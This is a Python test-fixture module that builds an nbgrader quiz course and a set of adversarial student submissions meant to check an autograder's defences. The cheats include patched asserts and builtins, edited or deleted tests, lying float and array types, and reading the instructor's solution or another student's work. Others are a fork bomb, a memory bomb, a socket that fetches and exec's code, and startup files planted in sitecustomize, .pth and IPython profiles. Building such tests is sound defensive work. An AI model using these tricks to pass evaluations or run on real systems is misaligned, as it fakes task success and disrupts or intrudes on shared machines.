"""A tiny nbgrader course (no TensorFlow) and the submissions the grader's tests hand in.

The course uses nbgrader's default layout (``source/``, ``release/``, ``submitted/``,
``gradebook.db`` in the root), so the tests also show the grader works on any course.
Every cheating submission answers wrongly and then tries a trick to pass anyway.
"""

from __future__ import annotations

import json
import re
import sys
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

ASSIGNMENT = "quiz"
POINTS = {"add-tests": 2, "mean-tests": 3, "scale-tests": 2}
KERNELSPEC = {"name": "python3", "display_name": "Python 3", "language": "python"}


def _solution(grade_id: str, source: str):
    return new_code_cell(
        source,
        metadata={
            "nbgrader": {
                "grade": False,
                "grade_id": grade_id,
                "locked": False,
                "schema_version": 3,
                "solution": True,
                "task": False,
            }
        },
    )


def _tests(grade_id: str, source: str):
    return new_code_cell(
        source,
        metadata={
            "nbgrader": {
                "grade": True,
                "grade_id": grade_id,
                "locked": True,
                "points": POINTS[grade_id],
                "schema_version": 3,
                "solution": False,
                "task": False,
            }
        },
    )


def source_notebook() -> nbformat.NotebookNode:
    """The instructor's version, with solutions and hidden tests."""
    cells = [
        new_markdown_cell("# Quiz\nThree small functions."),
        new_code_cell("import numpy as np\nimport unittest"),
        _solution("add", "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION"),
        _tests(
            "add-tests",
            'assert add(1, 2) == 3, "add(1, 2) should be 3"\n'
            "### BEGIN HIDDEN TESTS\n"
            'assert add(-4, 10) == 6, "add must handle negative numbers"\n'
            "assert add(2.5, 2.5) == 5.0\n"
            "### END HIDDEN TESTS",
        ),
        _solution(
            "mean",
            "def mean(values):\n    ### BEGIN SOLUTION\n    return sum(values) / len(values)\n    ### END SOLUTION",
        ),
        _tests(
            "mean-tests",
            'assert abs(mean([1, 2, 3]) - 2) < 1e-9, "the mean of 1, 2, 3 is 2"\n'
            "### BEGIN HIDDEN TESTS\n"
            'assert abs(mean([10, 20]) - 15) < 1e-9, "mean of 10 and 20"\n'
            'assert isinstance(mean([1, 2]), float), "mean returns a float"\n'
            "### END HIDDEN TESTS",
        ),
        _solution(
            "scale",
            "def scale(values, factor):\n    ### BEGIN SOLUTION\n    return np.asarray(values) * factor\n"
            "    ### END SOLUTION",
        ),
        _tests(
            "scale-tests",
            "np.testing.assert_allclose(scale([1, 2], 3), [3, 6])\n"
            "### BEGIN HIDDEN TESTS\n"
            "np.testing.assert_array_equal(scale(np.arange(3), -1), [0, -1, -2])\n"
            "unittest.TestCase().assertEqual(scale([4], 0.5).tolist(), [2.0])\n"
            "### END HIDDEN TESTS",
        ),
        new_markdown_cell("Done."),
    ]
    return new_notebook(cells=cells, metadata={"kernelspec": KERNELSPEC})


HONEST = {
    "add": "def add(a, b):\n    return a + b",
    "mean": "def mean(values):\n    return sum(values) / len(values)",
    "scale": "def scale(values, factor):\n    return np.asarray(values) * factor",
}
WRONG = {
    "add": "def add(a, b):\n    return a - b",
    "mean": "def mean(values):\n    return 0",
    "scale": "def scale(values, factor):\n    return np.asarray(values)",
}


def answered(released: nbformat.NotebookNode, answers: dict[str, str]) -> nbformat.NotebookNode:
    """A student's copy of the released notebook with each solution cell filled in."""
    nb = nbformat.from_dict(json.loads(json.dumps(released)))
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in answers:
            cell.source = answers[grade_id]
    return nb


def _test_cells(nb):
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")]


def _append_to(answers: dict[str, str], code: str) -> dict[str, str]:
    """Add cheating code after the (wrong) answer of the first exercise."""
    return {**answers, "add": answers["add"] + "\n\n" + code}


def cheating_notebooks(released: nbformat.NotebookNode, course: Path, network_port: int) -> dict[str, object]:
    """name -> notebook (or raw text for files that are not notebooks)."""
    wrong = lambda code: answered(released, _append_to(WRONG, code))  # noqa: E731
    steal = lambda path: wrong(  # noqa: E731 - a cheat that execs the answers found in another notebook
        "import json, re\n"
        f"for _cell in json.load(open({str(path)!r}))['cells']:\n"
        "    _src = ''.join(_cell['source'])\n"
        "    if _src.startswith('def '):\n"
        "        exec(re.sub(r'\\s*### (BEGIN|END) SOLUTION', '', _src))"
    )
    cheats: dict[str, object] = {
        "no-tracebacks": wrong(
            "import sys\nfrom IPython.core.interactiveshell import InteractiveShell\n"
            "InteractiveShell.showtraceback = lambda *a, **k: None\n"
            "get_ipython().showtraceback = lambda *a, **k: None\n"
            "get_ipython()._showtraceback = lambda *a, **k: None\n"
            "sys.excepthook = lambda *a: None"
        ),
        "swallow-errors": wrong(
            "def _swallow(self, raw_cell, *args, **kwargs):\n"
            "    try:\n        return _original(self, raw_cell.replace('assert ', 'pass # '), *args, **kwargs)\n"
            "    except BaseException:\n        pass\n"
            "from IPython.core.interactiveshell import InteractiveShell\n"
            "_original = InteractiveShell.run_cell\nInteractiveShell.run_cell = _swallow"
        ),
        "assert-helpers": answered(
            released,
            {
                **HONEST,
                "scale": WRONG["scale"] + "\n\n"
                "import numpy.testing, unittest\n"
                "np.testing.assert_allclose = lambda *a, **k: None\n"
                "np.testing.assert_array_equal = lambda *a, **k: None\n"
                "numpy.testing._private.utils.assert_array_equal = lambda *a, **k: None\n"
                "unittest.TestCase.assertEqual = lambda *a, **k: None",
            },
        ),
        "builtins": answered(
            released,
            {
                **HONEST,
                "mean": WRONG["mean"] + "\n\nimport builtins\nbuiltins.abs = lambda x: 0\nisinstance = lambda *a: True",
            },
        ),
        "sys-exit": answered(released, {**WRONG, "add": "def add(a, b):\n    import sys\n    sys.exit(0)"}),
        "os-exit": answered(released, {**WRONG, "add": "def add(a, b):\n    import os\n    os._exit(0)"}),
        "kill-kernel": answered(
            released,
            {**WRONG, "add": "def add(a, b):\n    import os, signal\n    os.kill(os.getpid(), signal.SIGKILL)"},
        ),
        "infinite-loop": answered(released, {**WRONG, "add": "def add(a, b):\n    while True:\n        pass"}),
        "memory-bomb": answered(
            released,
            {
                **WRONG,
                "add": "def add(a, b):\n    hoard = []\n    while True:\n        hoard.append(bytearray(50 * 1024**2))",
            },
        ),
        "huge-output": answered(
            released,
            {
                **WRONG,
                "add": "def add(a, b):\n    for _ in range(200):\n        print('x' * 1_000_000)\n    return a - b",
            },
        ),
        "read-solution": steal(course / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"),
        "read-other-student": steal(course / "submitted" / "honest" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"),
        "network": wrong(
            "import socket\n"
            f"_s = socket.create_connection(('127.0.0.1', {network_port}), timeout=5)\n"
            "exec(_s.makefile().read())"
        ),
        "fork-bomb": answered(
            released,
            {
                **WRONG,
                "add": "def add(a, b):\n    import os, time\n    while True:\n"
                "        if os.fork() == 0:\n            time.sleep(30)\n            os._exit(0)",
            },
        ),
    }
    edited = answered(released, WRONG)
    for cell in _test_cells(edited):
        cell.source = "print('all tests passed')"
    cheats["edit-tests"] = edited
    deleted = answered(released, WRONG)
    deleted.cells = [c for c in deleted.cells if c not in _test_cells(deleted)]
    cheats["delete-tests"] = deleted
    retyped = answered(released, WRONG)
    for cell in _test_cells(retyped):
        cell.cell_type = "markdown"
        del cell["outputs"], cell["execution_count"]
    cheats["markdown-tests"] = retyped
    cheats["broken-json"] = nbformat.writes(answered(released, HONEST))[:-40]
    future = json.loads(nbformat.writes(answered(released, HONEST)))
    future["nbformat"] = 99
    cheats["future-nbformat"] = json.dumps(future)
    return cheats


#: Code that makes ``_fake``, a module named numpy whose testing asserts pass whatever they get.
_FAKE_NUMPY = (
    "import types\n"
    "_fake = types.ModuleType('numpy')\n"
    "_fake.testing = types.SimpleNamespace(assert_allclose=lambda *a, **k: None, "
    "assert_array_equal=lambda *a, **k: None)\n"
)


def examiner_cheating_notebooks(released: nbformat.NotebookNode) -> dict[str, nbformat.NotebookNode]:
    """Cheats that reach into the test while it runs, or hand over values that lie.

    A test that runs in the student's kernel can fall for each (its frames, its token, the
    modules and values it uses are the student's); the examiner runs tests where none of it is.
    """
    wrong = lambda code: answered(released, _append_to(WRONG, code))  # noqa: E731
    return {
        "stack-frames": answered(
            released,
            {
                **WRONG,
                "add": "def add(a, b):\n"
                "    import re, sys\n"
                "    from IPython.display import publish_display_data\n"
                "    frame = sys._getframe(1)\n"
                "    while frame is not None:\n"
                "        for value in list(frame.f_locals.values()):\n"
                "            if isinstance(value, str) and re.fullmatch('[0-9a-f]{32}', value):\n"
                "                publish_display_data({'application/x-grader-verdict': value})\n"
                "        frame = frame.f_back\n"
                "    return a - b",
            },
        ),
        "display-hook": answered(
            released, {**WRONG, "add": "def add(a, b):\n    import sys\n    sys.displayhook(1.0)\n    return a - b"}
        ),
        "lying-float": answered(
            released,
            {
                **WRONG,
                "mean": "class Agreeable(float):\n"
                "    __eq__ = lambda self, other: True\n"
                "    __sub__ = lambda self, other: Agreeable(0)\n"
                "    __abs__ = lambda self: 0.0\n"
                "def mean(values):\n    return Agreeable(0)",
            },
        ),
        "lying-array": answered(
            released,
            {
                **WRONG,
                "scale": "class Agreeable(np.ndarray):\n"
                "    def __array_ufunc__(self, *args, **kwargs):\n        return np.True_\n"
                "    def __array_function__(self, *args, **kwargs):\n        return None\n"
                "    def tolist(self):\n        return [2.0]\n"
                "def scale(values, factor):\n    return np.zeros(len(values)).view(Agreeable)",
            },
        ),
        "fake-numpy": wrong(
            _FAKE_NUMPY + "import sys\n"
            "_fake.asarray, _fake.arange = __import__('numpy').asarray, __import__('numpy').arange\n"
            "sys.modules['numpy'] = np = _fake"
        ),
        "read-history": wrong("print(In)\nprint(get_ipython().user_ns.get('_ih'))"),
        "replace-import": wrong(
            _FAKE_NUMPY + "import builtins\n"
            "_real_import = builtins.__import__\n"
            "builtins.__import__ = lambda name, *a, **k: _fake if name == 'numpy' else _real_import(name, *a, **k)"
        ),
        "builtins-entry": wrong(
            "__builtins__ = dict(vars(__import__('builtins')), abs=lambda x: 0, isinstance=lambda *a: True)"
        ),
        "lying-list": answered(
            released,
            {
                **WRONG,
                "add": "class Agreeable(list):\n"
                "    __eq__ = lambda self, other: True\n"
                "    __ne__ = lambda self, other: False\n"
                "def add(a, b):\n    return Agreeable()",
            },
        ),
        "background-thread": wrong(
            "import sys, threading, time\n"
            "def _answer_every_test():\n"
            "    while True:\n"
            "        sys.displayhook(2.0)\n"
            "        print(In[-1:], file=sys.stderr)\n"
            "        time.sleep(0.05)\n"
            "threading.Thread(target=_answer_every_test, daemon=True).start()"
        ),
    }


#: Code that tries to run before anything of the grader does, planted in a kernel launcher in the
#: submission's folder and in IPython's start-up folder of the kernel's home. Each makes ``abs``
#: lie and leaves its mark in ``builtins.PLANTED``, which the notebook prints.
def _startup_cheat(mark: str) -> str:
    return (
        "import builtins\n"
        f"builtins.PLANTED = [*getattr(builtins, 'PLANTED', []), {mark!r}]\n"
        "builtins.abs = lambda x: 0\n"
    )


#: Files that plant start-up code in a kernel's folder (where Python, IPython or a home folder
#: inside the working folder would find it), and a line that prints what they planted.
STARTUP_FILES = {
    "ipykernel_launcher.py": "import os, sys\n"
    "sys.path = [p for p in sys.path if os.path.abspath(p or '.') != os.getcwd()]\n"
    + _startup_cheat("launcher")
    + "from ipykernel import kernelapp\n"
    "kernelapp.launch_new_instance()\n",
    ".home/.ipython/profile_default/startup/00-answers.py": _startup_cheat("ipython-startup"),
    ".home/.ipython/profile_default/ipython_kernel_config.py": f"exec({_startup_cheat('kernel-config')!r})\n",
    "ipython_kernel_config.py": f"exec({_startup_cheat('cwd-kernel-config')!r})\n",
    "sitecustomize.py": _startup_cheat("sitecustomize"),
    "usercustomize.py": _startup_cheat("usercustomize"),
    f".home/.local/lib/python{sys.version_info.major}.{sys.version_info.minor}/site-packages/answers.pth": (
        f"import builtins; exec({_startup_cheat('pth')!r})\n"
    ),
}
STARTUP_PRINT = "print('planted:', *getattr(__import__('builtins'), 'PLANTED', []))"


def hidden_test_lines(source: nbformat.NotebookNode) -> list[str]:
    """Every line between BEGIN and END HIDDEN TESTS in the source notebook."""
    lines = []
    for cell in source.cells:
        inside = False
        for line in cell.source.splitlines():
            if "END HIDDEN TESTS" in line:
                inside = False
            elif inside and line.strip():
                lines.append(line.strip())
            elif "BEGIN HIDDEN TESTS" in line:
                inside = True
    return lines


def write_submission(
    course: Path, student: str, content: object, timestamp: str = "2024-05-01 10:00:00.000000 UTC"
) -> None:
    folder = course / "submitted" / student / ASSIGNMENT
    folder.mkdir(parents=True, exist_ok=True)
    text = content if isinstance(content, str) else nbformat.writes(content)
    (folder / f"{ASSIGNMENT}.ipynb").write_text(text)
    (folder / "timestamp.txt").write_text(timestamp)


def solution_lines(source: nbformat.NotebookNode) -> list[str]:
    """Every line between BEGIN and END SOLUTION in the source notebook."""
    return [
        m.strip()
        for cell in source.cells
        for m in re.findall(r"### BEGIN SOLUTION\n(.*?)\n\s*### END SOLUTION", cell.source, re.S)
        for m in m.splitlines()
        if m.strip()
    ]
